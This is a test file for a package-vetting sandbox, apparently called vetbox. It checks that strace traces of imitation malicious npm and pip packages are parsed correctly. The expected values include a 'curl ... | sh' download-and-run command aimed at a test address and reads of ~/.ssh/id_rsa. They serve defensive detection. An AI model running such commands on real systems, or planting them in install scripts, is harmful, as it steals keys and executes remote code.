import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { Behavior, type FileChange, type PhaseName, type SandboxInfo } from '@vetbox/contracts';
import { describe, expect, it } from 'vitest';
import { buildBehavior } from './build.js';

/**
 * Traces recorded by real sandbox runs of the imitation packages (test/fixtures/sandbox/stage.ts:
 * read ~/.ssh/id_rsa, `curl ... | sh`, raw TCP to 192.0.2.10:8080 under `--network none`),
 * stored with their sandbox facts in services/trace/src/__fixtures__/real/meta.json.
 */
const dir = fileURLToPath(new URL('../../trace/src/__fixtures__/real/', import.meta.url));
interface Meta {
  sandbox: SandboxInfo;
  phase: { name: PhaseName; startedAtMs: number; fileChanges: FileChange[] };
}
const meta = JSON.parse(readFileSync(`${dir}meta.json`, 'utf8')) as Record<string, Meta>;

async function load(file: string): Promise<{ b: Behavior; m: Meta }> {
  const m = meta[file];
  const b = await buildBehavior({
    phases: [{ name: m.phase.name, tracePath: `${dir}${file}`, startedAtMs: m.phase.startedAtMs }],
    sandbox: m.sandbox,
    fileChanges: m.phase.fileChanges,
  });
  return { b, m };
}

const argvOf = (b: Behavior) => b.processes.map((p) => `${p.housekeeping ? 'pm' : 'pkg'}: ${p.argv.join(' ')}`);
const evidence = (b: Behavior) => b.files.map((f) => `${f.op} ${f.path} ${f.result}`);
const conns = (b: Behavior) => b.network.connections.map((c) => `${c.pid} ${c.syscall} ${c.protocol} ${c.address}:${c.port} ${c.result}`);

describe('real sandbox traces', () => {
  it('npm postinstall: npm is housekeeping, the script chain is the package, with its key read and connects', async () => {
    const { b, m } = await load('npm-postinstall.install.strace.gz');
    expect(() => Behavior.parse(b)).not.toThrow();
    expect(b.malformedLines).toBe(0);
    expect(argvOf(b)).toEqual([
      'pm: node /usr/bin/npm rebuild --foreground-scripts --offline',
      'pkg: sh -c node install.js',
      'pkg: node install.js',
      'pkg: sh -c curl -s -m 2 http://192.0.2.10:8080/x | sh',
      'pkg: curl -s -m 2 http://192.0.2.10:8080/x',
      'pkg: sh',
    ]);
    const [npm, script, node] = b.processes;
    expect(script.ppid).toBe(npm.pid);
    expect(node.ppid).toBe(script.pid);
    expect(node.cwd).toBe(`${m.sandbox.packageDirs[0]}`);
    // npm's thousands of cache/config/module reads are folded, not listed.
    expect(b.files.some((f) => f.pid === npm.pid)).toBe(false);
    expect((b.housekeeping ?? []).find((h) => h.category === 'package-manager')?.count).toBeGreaterThan(1000);
    expect(b.files.find((f) => f.path === `${m.sandbox.home}/.ssh/id_rsa`)).toMatchObject({ pid: node.pid, op: 'read', result: 'ok' });
    expect(evidence(b)).toContain('exec /usr/bin/curl ok');
    expect(conns(b)).toEqual([`${b.processes[4].pid} connect tcp 192.0.2.10:8080 ENETUNREACH`, `${node.pid} connect tcp 192.0.2.10:8080 ENETUNREACH`]);
    expect(b.processes.every((p) => p.exit?.code !== undefined && !p.outlived)).toBe(true);
  });

  it('npm import: the payload runs in the import harness process', async () => {
    const { b, m } = await load('npm-import-payload.import.strace');
    expect(b.malformedLines).toBe(0);
    expect(argvOf(b)[0]).toBe('pkg: node /opt/vetbox/bin/import-npm.cjs lazy-payload');
    expect(evidence(b)).toEqual(expect.arrayContaining([`read ${m.sandbox.home}/.ssh/id_rsa ok`, 'exec /usr/bin/sh ok', 'exec /usr/bin/curl ok']));
    // The harness's own files are housekeeping.
    expect(b.files.some((f) => f.path.startsWith('/opt/vetbox'))).toBe(false);
    expect(conns(b).map((c) => c.split(' ').slice(1).join(' '))).toEqual(['connect tcp 192.0.2.10:8080 ENETUNREACH', 'connect tcp 192.0.2.10:8080 ENETUNREACH']);
  });

  it('pip install: pip and its helpers are housekeeping, setup.py runs are the package', async () => {
    const { b, m } = await load('pypi-setup-py.install.strace.gz');
    expect(b.malformedLines).toBe(0);
    const pm = b.processes.filter((p) => p.housekeeping).map((p) => p.argv.slice(0, 3).join(' '));
    expect(pm).toEqual(['python3 -m pip', 'python3 -m pip', 'uname -rs']);
    const setupRuns = b.processes.filter((p) => !p.housekeeping && p.argv.join(' ').includes('pip-setuptools-caller'));
    expect(setupRuns).toHaveLength(2); // egg_info, then bdist_wheel
    for (const run of setupRuns) {
      expect(b.files).toContainEqual(expect.objectContaining({ pid: run.pid, op: 'read', path: `${m.sandbox.home}/.ssh/id_rsa`, result: 'ok' }));
      expect(run.cwd).toMatch(/^\/tmp\/pip-req-build-/);
    }
    expect(b.processes.filter((p) => p.argv[0] === 'curl')).toHaveLength(2);
    // The build's own output is a create (it was missing before), the stdlib is folded.
    expect(b.files.some((f) => f.op === 'create' && /\/build\/lib\/evilpkg\.py$/.test(f.path))).toBe(true);
    expect(b.files.some((f) => f.path.startsWith('/usr/lib/python3'))).toBe(false);
  });
});
